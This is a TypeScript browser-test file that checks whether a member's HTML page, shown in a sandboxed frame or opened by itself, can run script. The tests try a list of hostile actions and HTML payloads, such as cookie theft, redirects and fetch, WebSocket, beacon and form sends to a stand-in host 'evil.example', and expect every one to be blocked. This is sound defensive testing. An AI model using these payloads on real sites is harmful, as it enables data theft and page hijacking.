// If a script of a member ever ran in a frame: what it could do there, tried one by one, in the frame and in the same document opened by itself.
import { describe, expect, it } from 'vitest'
import type { Frame } from 'playwright-core'
import { getWall } from '#contract/walls'
import { bare, frames, framedWalls, type Hostile } from './framed-walls.ts'

const at = framedWalls()

/** Everything that worked. */
const tried = (frame: Frame, house: string): Promise<readonly string[]> =>
  frame.evaluate(async (own) => {
    const outside = 'http://evil.example/'
    const worked: string[] = []
    const late = new Promise<false>((done) => setTimeout(() => done(false), 1_500))
    const heard = (target: EventTarget, good: string): Promise<boolean> =>
      new Promise((done) => {
        target.addEventListener(good, () => done(true))
        for (const bad of ['error', 'abort', 'close']) target.addEventListener(bad, () => done(false))
      })
    const attempts: Record<string, () => unknown> = {
      'write a cookie': () => ((document.cookie = 'pwned=1'), document.cookie !== ''),
      'read cookies': () => document.cookie.length >= 0,
      'keep something': () => ((localStorage['pwned'] = '1'), true),
      'keep something for the tab': () => ((sessionStorage['pwned'] = '1'), true),
      'open a database': () => heard(indexedDB.open('pwned'), 'success'),
      'keep answers': async () => (await caches.keys()).length >= 0,
      'read the page around': () => parent !== self && parent.document.title !== '',
      'read where the page around is': () => parent !== self && parent.location.href !== '',
      'lead the page around away': () => {
        if (top && parent !== self) top.location.href = outside
        return false
      },
      'open a window': () => open(outside) !== null,
      ask: () => confirm('pwned') || prompt('pwned') !== null,
      say: () => (alert('pwned'), print(), false),
      'take the pointer': async () => (await document.documentElement.requestPointerLock(), true),
      'take the screen': async () => (await document.documentElement.requestFullscreen(), true),
      'ask the house as its visitor': async () =>
        (await fetch(`${own}/api/session`, { credentials: 'include' })).status > 0,
      'ask the house blindly': async () => (await fetch(`${own}/api/session`, { mode: 'no-cors' })).type === 'opaque',
      'write to the house': async () =>
        (await fetch(`${own}/api/session`, { method: 'POST', mode: 'no-cors', body: 'x' })).type === 'opaque',
      'ask outside': async () => (await fetch(outside, { mode: 'no-cors' })).type === 'opaque',
      'ask in the old way': () => {
        const request = new XMLHttpRequest()
        request.open('GET', outside)
        request.send()
        return heard(request, 'load')
      },
      'open a socket': () => heard(new WebSocket('ws://evil.example/'), 'open'),
      'open the house’s socket': () =>
        heard(new WebSocket(`${own.replace('http', 'ws')}/socket.io/?EIO=4&transport=websocket`), 'open'),
      listen: () => heard(new EventSource(outside), 'open'),
      'send and leave': () => (navigator.sendBeacon(outside, 'x'), false),
      'show a picture': () => heard(Object.assign(new Image(), { src: `${outside}x.png` }), 'load'),
      'load a script': () => import(`${outside}x.js`),
      'write a script': () => {
        document.body.append(Object.assign(document.createElement('script'), { textContent: 'pwned=1' }))
        return 'pwned' in window
      },
      'run an attribute': () => {
        document.body.setAttribute('onclick', 'pwned=1')
        document.body.click()
        return 'pwned' in window
      },
      'start a worker': () => heard(new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))), 'message'),
      'start a shared worker': () => heard(new SharedWorker(`${own}/sw.js`).port, 'message'),
      'stay for ever': async () => (await navigator.serviceWorker.register('/sw.js')).scope !== '',
      'show another document': () =>
        heard(
          document.body.appendChild(Object.assign(document.createElement('iframe'), { src: `${own}/rooms` })),
          'load',
        ).then(() => frames.length > 0 && document.querySelector('iframe')?.contentDocument !== null),
      'load an object': () =>
        heard(document.body.appendChild(Object.assign(document.createElement('object'), { data: outside })), 'load'),
      'send a form': () => {
        const form = document.body.appendChild(
          Object.assign(document.createElement('form'), { action: outside, method: 'post' }),
        )
        form.submit()
        return false
      },
      'hand over a file': () => (
        Object.assign(document.createElement('a'), { href: 'data:,x', download: 'x.exe' }).click(), false
      ),
      'hear where one is': () =>
        new Promise((done) =>
          navigator.geolocation.getCurrentPosition(
            () => done(true),
            () => done(false),
          ),
        ),
      'hear one': async () => (await navigator.mediaDevices.getUserMedia({ audio: true })).active,
      'read the clipboard': async () => (await navigator.clipboard.readText()).length >= 0,
      'show notices': async () => (await Notification.requestPermission()) === 'granted',
    }
    for (const [what, attempt] of Object.entries(attempts))
      try {
        if (await Promise.race([Promise.resolve(attempt()), late])) worked.push(what)
      } catch {
        // Refused, as it should be.
      }
    return worked
  }, house)

describe('a script in a frame', () => {
  it('UC-01 UC-02 UC-03 UC-04 UC-06 reads, sends, opens and keeps nothing', async () => {
    const visit = await at.visitor()
    await at.hang([{ html: '<p>Hello</p>', css: '' }])
    await visit.page.goto('/@ada')
    const [frame] = await frames(visit.page, 1)
    if (!frame) throw new Error('There is no frame.')
    expect(await frame.evaluate(() => self.origin)).toBe('null')
    expect(await tried(frame, at.url)).toEqual([])
    expect(visit.harm).toEqual([])
    expect(at.canary.heard).toEqual([])
    expect(visit.page.url()).toBe(`${at.url}/@ada`)
    expect((await visit.page.context().cookies()).map(({ name }) => name)).not.toContain('pwned')
    await visit.page.context().close()
  })

  it('UC-05 the same document opened by itself is sandboxed as well, has no script, and is led nowhere', async () => {
    const visit = await at.visitor()
    await at.hang([{ html: '<p>Hello</p>', css: 'p{color:red}' }])
    const { wall } = await at.ada.visitor.request(getWall, { params: { username: 'ada' } })
    const [module] = wall.modules
    const address = module?.kind === 'html' ? module.content.frame : null
    const answer = await visit.page.goto(String(address))
    expect(answer?.headers()['content-type']).toBe('text/html; charset=utf-8')
    expect(answer?.headers()['x-content-type-options']).toBe('nosniff')
    expect(answer?.headers()['content-security-policy']).toMatch(/^sandbox; .*script-src 'none'/)
    expect(await visit.page.locator('p').evaluate((p) => getComputedStyle(p).color)).toBe('rgb(255, 0, 0)')
    expect(await visit.page.evaluate(() => self.origin)).toBe('null')
    const texts: readonly Hostile[] = [
      '<meta http-equiv=refresh content="0;url=http://evil.example/">',
      '<script>location="http://evil.example/"</script>',
      '<form action="http://evil.example/"><input autofocus><button id=b>x</button></form>',
      '<a href="http://evil.example/" target=_blank id=b>x</a>',
      '<iframe srcdoc="<script>top.location=1</script>"></iframe>',
      '<base href="http://evil.example/"><link rel=stylesheet href=x>',
    ].map((html) => ({ html, css: '' }))
    for (const text of texts) {
      await visit.page.unrouteAll()
      await bare(visit.page, () => [text], 'document')
      await visit.page.goto(String(address))
      // A click of a person, where there is something to be clicked.
      const press = visit.page.locator('#b')
      if ((await press.count()) > 0) await press.click({ noWaitAfter: true })
      const left = visit.page.waitForURL(/evil/, { timeout: 400 }).then(
        () => true,
        () => false,
      )
      expect(await left, text.html).toBe(false)
      expect(visit.page.url(), text.html).toBe(`${at.url}${address}`)
    }
    expect(visit.harm).toEqual([])
    expect(at.canary.heard).toEqual([])
    await visit.page.context().close()
  })
})
